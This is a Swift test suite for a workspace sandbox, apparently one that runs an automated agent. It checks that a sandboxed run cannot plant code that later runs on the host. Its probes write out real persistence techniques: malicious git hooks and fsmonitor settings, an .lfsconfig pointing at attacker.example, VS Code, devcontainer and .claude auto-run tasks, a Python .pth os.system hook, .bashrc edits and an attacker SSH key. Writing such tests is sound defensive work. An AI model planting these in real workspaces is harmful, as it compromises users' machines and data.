// What git's own configuration makes run, wherever the workspace keeps it: a hooks folder
// `core.hooksPath` names (`.githooks`, husky's `.husky/_`), a file `include.path` reads as
// configuration (`../.gitconfig`), a project script `core.fsmonitor` names. A run that
// changed them would plant what the user's next `git status` or `git commit` runs. Each
// probe runs in a real bubblewrap sandbox; the host's git is then run as the user would run
// it, and a planted program leaves a marker if it ran.

import DoerCore
@testable import DoerSandbox
import Foundation
import Testing

/// A folder where planted programs leave their marker, and the shell line that leaves one.
private final class Fired: @unchecked Sendable {
    let folder: URL

    init() throws {
        folder = URL(fileURLWithPath: NSTemporaryDirectory()).appendingPathComponent("doer-fired-\(UUID().uuidString.prefix(8))")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    }

    func mark(_ name: String) -> String { "touch '\(folder.path)/\(name)'" }

    var names: [String] { ((try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? []).sorted() }

    deinit { try? FileManager.default.removeItem(at: folder) }
}

/// The host's git in `folder`, as a user would run it; its result does not matter.
@discardableResult
private func git(_ arguments: [String], in folder: URL) throws -> Int32 {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/git")
    process.arguments = ["-c", "user.name=u", "-c", "user.email=u@example.org"] + arguments
    process.currentDirectoryURL = folder
    process.standardOutput = FileHandle.nullDevice
    process.standardError = FileHandle.nullDevice
    try process.run()
    process.waitUntilExit()
    return process.terminationStatus
}

/// A repository in `ws` with `config` lines set, its files committed.
private func repository(_ ws: ScratchWorkspace, config: [(String, String)], in folder: String = "") throws {
    let url = folder.isEmpty ? ws.url : ws.url.appendingPathComponent(folder)
    try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
    try git(["init", "-q", "."], in: url)
    for (key, value) in config { try git(["config", key, value], in: url) }
    try git(["add", "-A"], in: url)
    try git(["commit", "-q", "-m", "base"], in: url)
}

/// What the user does next in `folder`: look, then commit a change.
private func useRepository(_ ws: ScratchWorkspace, _ folder: String = "") throws {
    let url = folder.isEmpty ? ws.url : ws.url.appendingPathComponent(folder)
    try git(["status"], in: url)
    try ws.write((folder.isEmpty ? "" : folder + "/") + "touched.txt", "\(UUID())\n")
    try git(["add", "-A"], in: url)
    try git(["commit", "-q", "-m", "next"], in: url)
}

private func hook(_ fired: Fired) -> String { "printf '#!/bin/sh\\n\(fired.mark("hook"))\\n'" }

private func fsmonitorConfig(_ fired: Fired) -> String {
    "printf '[core]\\n\\tfsmonitor = \"\(fired.mark("fsmonitor")); false\"\\n'"
}

@Suite("escape suite 9: what git's configuration names in the workspace is never changed by a run")
struct GitConfiguredPathTests {
    @Test("the trap is armed: the same hook and included configuration written by hand run on the user's git")
    func trapIsArmed() throws {
        let fired = try Fired()
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", ".gitconfig": "[user]\n\tname = u\n"])
        try repository(ws, config: [("core.hooksPath", ".githooks"), ("include.path", "../.gitconfig")])
        try ws.write(".githooks/pre-commit", "#!/bin/sh\n\(fired.mark("hook"))\n")
        chmod(ws.url.appendingPathComponent(".githooks/pre-commit").path, 0o755)
        try ws.write(".gitconfig", "[core]\n\tfsmonitor = \"\(fired.mark("fsmonitor")); false\"\n")
        try useRepository(ws)
        #expect(fired.names == ["fsmonitor", "hook"])
    }

    @Test("the folder core.hooksPath names, and every folder on its way, stay as they were", arguments: [
        "existing", "missing", "ancestor-link", "ancestor-deleted", "user-link", "nested-repository",
    ])
    func hooksFolder(_ variant: String) async throws {
        let fired = try Fired()
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n"])
        var folder = "", hooks = ".githooks"
        let plant: String
        switch variant {
        case "existing":
            try ws.write(".githooks/pre-commit", "#!/bin/sh\nexit 0\n")
            try repository(ws, config: [("core.hooksPath", ".githooks")])
            plant = "\(hook(fired)) > .githooks/pre-commit; chmod +x .githooks/pre-commit"
        case "missing":
            // husky's folder before `npm install` made it.
            hooks = ".husky/_"
            try repository(ws, config: [("core.hooksPath", hooks)])
            plant = "mkdir -p .husky/_; \(hook(fired)) > .husky/_/pre-commit; chmod +x .husky/_/pre-commit"
        case "ancestor-link":
            hooks = "tools/hooks"
            try ws.write("tools/hooks/.keep", "")
            try repository(ws, config: [("core.hooksPath", hooks)])
            plant = "mkdir -p evil/hooks; \(hook(fired)) > evil/hooks/pre-commit; chmod +x evil/hooks/pre-commit; rm -r tools; ln -s evil tools"
        case "ancestor-deleted":
            hooks = "tools/hooks"
            try ws.write("tools/readme", "tools\n")
            try repository(ws, config: [("core.hooksPath", hooks)])
            plant = "rm -r tools; printf 'tools\\n' > tools"
        case "user-link":
            try ws.write("scripts/hooks/.keep", "")
            symlink("scripts/hooks", ws.url.appendingPathComponent(".githooks").path)
            try repository(ws, config: [("core.hooksPath", ".githooks")])
            plant = "\(hook(fired)) > scripts/hooks/pre-commit; chmod +x scripts/hooks/pre-commit"
        default:
            folder = "vendor/lib"
            try ws.write("vendor/lib/lib.py", "y = 1\n")
            try repository(ws, config: [("core.hooksPath", "hooks")], in: folder)
            hooks = "vendor/lib/hooks"
            plant = "mkdir -p vendor/lib/hooks; \(hook(fired)) > vendor/lib/hooks/pre-commit; chmod +x vendor/lib/hooks/pre-commit"
        }
        let r = try await TestSandboxes.sh(plant + "; printf 'x = 2\\n' > app.py", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
        #expect(r.warnings.contains { $0.contains("git's configuration takes hooks or configuration from") }, "\(r.warnings)")
        #expect(!ws.exists(hooks + "/pre-commit") || ws.read(hooks + "/pre-commit") == "#!/bin/sh\nexit 0\n", "\(r.warnings)")
        if variant.hasPrefix("ancestor") { #expect(!isLink(ws, "tools") && ws.exists("tools/hooks") || ws.exists("tools/readme")) }
        try useRepository(ws, folder)
        #expect(fired.names.isEmpty, "\(r.warnings)")
    }

    @Test("a file the configuration includes is never written, whether it exists, is missing, or is included by another", arguments: [
        "include", "missing", "includeIf", "chain", "absolute",
    ])
    func includedConfiguration(_ variant: String) async throws {
        let fired = try Fired()
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n"])
        var target = ".gitconfig"
        switch variant {
        case "include":
            try ws.write(".gitconfig", "[user]\n\tname = u\n")
            try repository(ws, config: [("include.path", "../.gitconfig")])
        case "missing":
            target = "config/local.gitconfig"
            try repository(ws, config: [("include.path", "../config/local.gitconfig")])
        case "includeIf":
            target = "local.gitconfig"
            try repository(ws, config: [("includeIf.gitdir:/.path", "../local.gitconfig")])
        case "chain":
            target = "b.gitconfig"
            try ws.write("a.gitconfig", "[include]\n\tpath = b.gitconfig   ; the rest\n")
            try repository(ws, config: [("include.path", "../a.gitconfig")])
        default:
            target = "shared.gitconfig"
            try repository(ws, config: [("include.path", ws.url.appendingPathComponent("shared.gitconfig").path)])
        }
        let r = try await TestSandboxes.sh("mkdir -p config; \(fsmonitorConfig(fired)) > \(target); printf 'x = 2\\n' > app.py", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
        #expect(!(ws.read(target) ?? "").contains("fsmonitor"), "\(r.warnings)")
        try useRepository(ws)
        #expect(fired.names.isEmpty, "\(r.warnings)")
    }

    @Test("what a hook manager's hooks run from the work tree is never changed: husky's scripts, pre-commit's and lefthook's configuration", arguments: [
        "husky", "pre-commit", "lefthook",
    ])
    func hookManagers(_ manager: String) async throws {
        let fired = try Fired()
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n"])
        // Each hook written the way the manager writes it, reduced to what matters: it runs
        // what the manager's own file in the work tree says.
        let target: String
        switch manager {
        case "husky":
            target = ".husky/pre-commit"
            try ws.write(".husky/_/pre-commit", "#!/bin/sh\n. \"$(dirname \"$(dirname \"$0\")\")/pre-commit\"\n")
            chmod(ws.url.appendingPathComponent(".husky/_/pre-commit").path, 0o755)
            try ws.write(target, "true\n")
            try repository(ws, config: [("core.hooksPath", ".husky/_")])
        case "pre-commit":
            target = ".pre-commit-config.yaml"
            try ws.write(target, "repos: []\n")
            try repository(ws, config: [])
            try ws.write(".git/hooks/pre-commit", "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n"
                + "ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n"
                + "sh -c \"$(sed -n 's/^ *entry: //p' .pre-commit-config.yaml)\"\n")
            chmod(ws.url.appendingPathComponent(".git/hooks/pre-commit").path, 0o755)
        default:
            target = "lefthook.yml"
            try repository(ws, config: [])
            try ws.write(".git/hooks/pre-commit", "#!/bin/sh\n# lefthook\nsh -c \"$(sed -n 's/^ *run: //p' lefthook.yml)\"\n")
            chmod(ws.url.appendingPathComponent(".git/hooks/pre-commit").path, 0o755)
        }
        let line = manager == "husky" ? fired.mark("hook") : manager == "pre-commit" ? "    entry: \(fired.mark("hook"))"
            : "    run: \(fired.mark("hook"))"
        let r = try await TestSandboxes.sh("printf '%s\\n' \"\(line)\" >> \(target); printf 'x = 2\\n' > app.py", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
        #expect(!(ws.read(target) ?? "").contains(fired.folder.path), "\(r.warnings)")
        try useRepository(ws)
        #expect(fired.names.isEmpty, "\(r.warnings)")
    }

    @Test("a project script core.fsmonitor names is never changed")
    func fsmonitorScript() async throws {
        let fired = try Fired()
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", "tools/fsmonitor.sh": "#!/bin/sh\nexit 1\n"])
        chmod(ws.url.appendingPathComponent("tools/fsmonitor.sh").path, 0o755)
        try repository(ws, config: [("core.fsmonitor", "tools/fsmonitor.sh")])
        let r = try await TestSandboxes.sh("printf '#!/bin/sh\\n\(fired.mark("fsmonitor"))\\nexit 1\\n' > tools/fsmonitor.sh", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("tools/fsmonitor.sh") == "#!/bin/sh\nexit 1\n", "\(r.warnings)")
        try useRepository(ws)
        #expect(fired.names.isEmpty)
    }

    @Test("scripts the configuration's commands name (fsmonitor with arguments, filters, textconv, an alias) are never changed")
    func commandScripts() async throws {
        let fired = try Fired()
        let original = "#!/bin/sh\ncat\n"
        let scripts = ["tools/fsmon.sh", "scripts/strip.sh", "scripts/textconv.sh", "scripts/lint.sh", "merge-driver"]
        var files = ["app.py": "x = 1\n", "notes.txt": "a\n", ".gitattributes": "*.txt filter=strip diff=tc merge=mine\n"]
        for script in scripts { files[script] = original }
        let ws = try ScratchWorkspace(files: files)
        try repository(ws, config: [("core.fsmonitor", "sh tools/fsmon.sh"), ("filter.strip.clean", "sh scripts/strip.sh"),
                                    ("diff.tc.textconv", "sh scripts/textconv.sh"), ("alias.lint", "!sh scripts/lint.sh && true"),
                                    ("merge.mine.driver", "./merge-driver %O %A %B")])
        let planted = scripts.map { "printf '#!/bin/sh\\n\(fired.mark(($0 as NSString).lastPathComponent))\\ncat\\n' > \($0)" }
            .joined(separator: "; ")
        let r = try await TestSandboxes.sh(planted + "; echo y = 2 >> app.py", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("app.py") == "x = 1\ny = 2\n", "the rest of the change is applied")
        for script in scripts { #expect(ws.read(script) == original, "\(script): \(r.warnings)") }
        try ws.write("notes.txt", "b\n")
        try git(["diff"], in: ws.url)
        try git(["lint"], in: ws.url)
        try useRepository(ws)
        #expect(fired.names.isEmpty)
    }

    @Test("which configuration values are commands, and which of their words name files")
    func commandWords() {
        #expect(GitConfiguredPaths.namesProgram("filter.strip.clean", value: "x"))
        #expect(GitConfiguredPaths.namesProgram("diff.tc.textconv", value: "x"))
        #expect(GitConfiguredPaths.namesProgram("credential.https://example.org.helper", value: "x"))
        #expect(GitConfiguredPaths.namesProgram("alias.lint", value: "!sh lint.sh"))
        #expect(!GitConfiguredPaths.namesProgram("alias.st", value: "status -s"), "an alias of git's own command")
        #expect(!GitConfiguredPaths.namesProgram("core.fsmonitor", value: "true"))
        #expect(!GitConfiguredPaths.namesProgram("filter.clean", value: "x"), "filter.<driver>.clean needs its driver")
        #expect(!GitConfiguredPaths.namesProgram("user.name", value: "x"))
        #expect(GitConfiguredPaths.commandPaths("sh tools/fsmon.sh") == ["tools/fsmon.sh"])
        #expect(GitConfiguredPaths.commandPaths("!python3 -m lint --fix src; ./post.sh | tee log") == ["lint", "src", "./post.sh", "log"])
        #expect(GitConfiguredPaths.commandPaths("git-lfs clean -- %f") == ["clean"])
        #expect(GitConfiguredPaths.commandPaths("tools/fsmonitor.sh") == ["tools/fsmonitor.sh"])
    }

    @Test("git-lfs's .lfsconfig, where the next push sends large files, is neither created nor changed", arguments: [false, true])
    func lfsConfiguration(existing: Bool) async throws {
        let original = "[lfs]\n\turl = https://lfs.example.org/team/repo\n"
        let ws = try ScratchWorkspace(files: existing ? ["app.py": "x = 1\n", ".lfsconfig": original] : ["app.py": "x = 1\n"])
        try repository(ws, config: [])
        try ws.write("sub/keep.txt", "k\n")
        try repository(ws, config: [], in: "sub")
        let r = try await TestSandboxes.sh(
            "printf '[lfs]\\n\\turl = https://attacker.example/x\\n' | tee .lfsconfig sub/.lfsconfig > /dev/null; echo y = 2 >> app.py", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("app.py") == "x = 1\ny = 2\n")
        #expect(existing ? ws.read(".lfsconfig") == original : !ws.exists(".lfsconfig"))
        #expect(!ws.exists("sub/.lfsconfig"))
        #expect(r.warnings.contains { $0.contains(".lfsconfig") }, "\(r.warnings)")
    }

    @Test("the approval lists such changes as not applied, and a copy's changes leave them out")
    func shownInCopy() throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n"])
        try repository(ws, config: [("core.hooksPath", ".githooks")])
        let copy = try WorkspaceCopy(copying: ws.url, stagingRoot: TestSandboxes.configuration.stagingRoot)
        defer { copy.discard() }
        try copy.write(".githooks/pre-commit", "#!/bin/sh\n")
        try copy.write("app.py", "x = 2\n")
        #expect(copy.changes().map(\.path) == ["app.py"])
        #expect(copy.refusals().contains { $0.contains(".githooks") })
        _ = try copy.apply(copy.changes() + [FileChange(path: ".githooks/pre-commit", kind: .added)])
        #expect(!ws.exists(".githooks/pre-commit"))
    }

    @Test("the system and global configuration count too: a relative core.hooksPath there names a folder of every repository")
    func globalConfiguration() throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", "home/.gitconfig": "[core]\n\thooksPath = .githooks\n",
                                              "home/.config/git/config": "[include]\n\tpath = ~/shared.gitconfig\n",
                                              "system": "[includeIf \"gitdir:/\"]\n\tpath = /nowhere/x\n"])
        try repository(ws, config: [])
        let home = ws.url.appendingPathComponent("home").path
        let found = GitConfiguredPaths.inside(ws.url, entries: FileTree.scan(ws.url.path),
                                              environment: ["HOME": home, "GIT_CONFIG_SYSTEM": ws.url.appendingPathComponent("system").path])
        #expect(found == [".githooks", "home/shared.gitconfig", "home/.gitconfig", "home/.config/git/config", "system", ".lfsconfig"])
        #expect(GitConfiguredPaths.inside(ws.url, entries: FileTree.scan(ws.url.path), environment: ["HOME": home, "GIT_CONFIG_GLOBAL": "/dev/null"]) == [".lfsconfig"])
    }

    @Test("configuration text is read as git reads it")
    func configText() {
        let text = "\u{FEFF}# top\n[core]\n\thooksPath = \".git hooks\" # shared\n[Include]path=a.cfg\n"
            + "[includeIf \"gitdir:~/w\\\"x/\"]\n  path = b\\\n.cfg ; more\n[Core.Sub]\n  bare\n"
            + "[broken\n  path = c.cfg\n[core]fsMonitor=\"a;b\"  \n"
        let entries = GitConfigText.entries(text)
        #expect(entries.map(\.key) == ["core.hooksPath", "include.path", "includeif.gitdir:~/w\"x/.path", "core.sub.bare", "core.fsMonitor"])
        #expect(entries.map(\.value) == [".git hooks", "a.cfg", "b.cfg", nil, "a;b"])
    }

    @Test("which workspace paths a change may not touch")
    func touched() {
        let configured: Set<String> = ["tools/hooks", ".gitconfig"]
        #expect(GitConfiguredPaths.touched("tools/hooks/pre-commit", staysFolder: false, configured: configured)! == ("tools/hooks", "tools/hooks"))
        #expect(GitConfiguredPaths.touched("tools", staysFolder: false, configured: configured)! == ("tools", "tools/hooks"))
        #expect(GitConfiguredPaths.touched("tools", staysFolder: true, configured: configured) == nil)
        #expect(GitConfiguredPaths.touched("tools/other", staysFolder: false, configured: configured) == nil)
        #expect(GitConfiguredPaths.touched(".gitconfig.bak", staysFolder: false, configured: configured) == nil)
    }
}

private func isLink(_ ws: ScratchWorkspace, _ path: String) -> Bool {
    var info = stat()
    return lstat(ws.url.appendingPathComponent(path).path, &info) == 0 && info.st_mode & S_IFMT == S_IFLNK
}

@Suite("escape suite 9: what an editor runs when the folder is opened is never changed by a run")
struct EditorConfigurationTests {
    @Test("an editor's existing project folder is read-only inside, and nothing under it is applied", arguments: [
        ".vscode/tasks.json", ".idea/workspace.xml", ".devcontainer/devcontainer.json",
    ])
    func existingFolder(_ file: String) async throws {
        let ws = try ScratchWorkspace(files: [file: "{}\n", "app.py": "x = 1\n"])
        let r = try await EscapeProbe.python(#"""
        attempt("write", lambda: open("\#(file)", "w").write('{"tasks":[{"command":"touch /tmp/pwned","runOptions":{"runOn":"folderOpen"}}]}'))
        open("app.py", "w").write("x = 2\n")
        """#, in: ws)
        #expect(r.escapeVerdicts["write"] == "EROFS", r.escapeLog())
        #expect(ws.read(file) == "{}\n")
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
    }

    @Test("an editor's project folder the run creates, at the top or below, is not applied")
    func createdFolders() async throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n"])
        let task = #"{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch /tmp/pwned","runOptions":{"runOn":"folderOpen"}}]}"#
        let r = try await TestSandboxes.sh("""
            mkdir -p .vscode .idea .devcontainer sub/.vscode .VSCode .zed .claude
            printf '%s' '\(task)' > .vscode/tasks.json; cp .vscode/tasks.json sub/.vscode/; cp .vscode/tasks.json .VSCode/
            printf '<project/>' > .idea/workspace.xml
            printf '{"initializeCommand":"touch /tmp/pwned"}' > .devcontainer/devcontainer.json
            printf '{"lsp":{"pyright":{"binary":{"path":"./evil"}}}}' > .zed/settings.json
            printf '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}' > .claude/settings.json
            printf '{"tasks":{"version":"2.0.0","tasks":[]}}' > team.code-workspace
            printf 'x = 2\\n' > app.py
            """, in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        for path in [".vscode", ".idea", ".devcontainer", "sub/.vscode", ".VSCode", ".zed", ".claude", "team.code-workspace"] {
            #expect(!ws.exists(path), "\(path) was applied")
        }
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
    }

    @Test("a virtual environment's start-up files (.pth, sitecustomize) are not applied; the rest of an install is")
    func virtualEnvironmentStartup() async throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", ".venv/lib/python3.11/site-packages/ok/__init__.py": "v = 1\n",
                                              ".venv/lib/python3.11/site-packages/existing.pth": "./ok\n"])
        let packages = ".venv/lib/python3.11/site-packages"
        let r = try await TestSandboxes.sh("""
            printf 'import os; os.system("touch /tmp/pwned")\\n' > \(packages)/zz_hook.pth
            printf 'import os\\n' >> \(packages)/existing.pth
            printf 'import os\\n' > \(packages)/sitecustomize.py
            mkdir -p lib/dist-packages && printf 'import os\\n' > lib/dist-packages/usercustomize.py
            printf 'v = 2\\n' > \(packages)/ok/__init__.py; mkdir -p \(packages)/new && printf 'n = 1\\n' > \(packages)/new/__init__.py
            """, in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(!ws.exists("\(packages)/zz_hook.pth") && !ws.exists("\(packages)/sitecustomize.py")
                && !ws.exists("lib/dist-packages/usercustomize.py"))
        #expect(ws.read("\(packages)/existing.pth") == "./ok\n")
        #expect(ws.read("\(packages)/ok/__init__.py") == "v = 2\n" && ws.read("\(packages)/new/__init__.py") == "n = 1\n",
                "the rest of the install is applied")
        #expect(r.warnings.contains { $0.contains("zz_hook.pth") && $0.contains("every Python") }, "\(r.warnings)")
    }
}

@Suite("escape suite 9: a protected folder below the top is not deleted with the folder holding it")
struct NestedProtectedFolderTests {
    @Test("deleting a nested repository's folder, or swapping it or a folder above it for a file or a link, is refused", arguments: [
        "rm -rf vendor/lib", "rm -rf vendor; printf 'v' > vendor", "mkdir elsewhere; rm -rf vendor/lib; ln -s ../elsewhere vendor/lib",
    ])
    func deleted(_ script: String) async throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", "vendor/lib/lib.py": "y = 1\n"])
        try repository(ws, config: [], in: "vendor/lib")
        let r = try await TestSandboxes.sh(script + "; printf 'x = 2\\n' > app.py", in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read("app.py") == "x = 2\n", "control: ordinary changes are applied")
        #expect(ws.exists("vendor/lib/.git/HEAD") && !isLink(ws, "vendor/lib"), "\(r.warnings)")
        #expect(ws.read("vendor/lib/lib.py") == "y = 1\n")
        #expect(r.warnings.contains { $0.contains("holds vendor/lib/.git") }, "\(r.warnings)")
    }

    @Test("a folder with no protected folder below it is still deleted")
    func control() async throws {
        let ws = try ScratchWorkspace(files: ["app.py": "x = 1\n", "vendor/lib/lib.py": "y = 1\n"])
        let r = try await TestSandboxes.sh("rm -rf vendor", in: ws)
        #expect(r.warnings.isEmpty, "\(r.warnings)")
        #expect(!ws.exists("vendor"))
    }

    @Test("a workspace that is a home folder: login files at its top and anything under .ssh are not applied; the same names deeper down, and the rest, are")
    func homeFolderStartup() async throws {
        let ws = try ScratchWorkspace(files: [".bashrc": "alias ll='ls -l'\n", "notes.txt": "a\n"])
        let r = try await TestSandboxes.sh("""
            echo 'touch /tmp/pwned' >> .bashrc; echo 'touch /tmp/pwned' > .profile; echo 'x' > .zshenv
            mkdir -p .ssh deploy/.ssh .config/autostart dotfiles && echo 'ssh-ed25519 AAAA attacker' > .ssh/authorized_keys
            echo 'Host *\n  ProxyCommand touch /tmp/pwned' > deploy/.ssh/config; echo '[Desktop Entry]' > .config/autostart/x.desktop
            echo 'alias g=git' > dotfiles/.bashrc; echo b > notes.txt
            """, in: ws)
        #expect(r.termination == .exited(0), "\(r.stderr)")
        #expect(ws.read(".bashrc") == "alias ll='ls -l'\n" && !ws.exists(".profile") && !ws.exists(".zshenv"))
        #expect(!ws.exists(".ssh/authorized_keys") && !ws.exists("deploy/.ssh/config") && !ws.exists(".config/autostart/x.desktop"))
        #expect(ws.read("dotfiles/.bashrc") == "alias g=git\n" && ws.read("notes.txt") == "b\n", "the rest is applied")
        #expect(r.warnings.contains { $0.contains(".ssh/authorized_keys") }, "\(r.warnings)")
    }
}
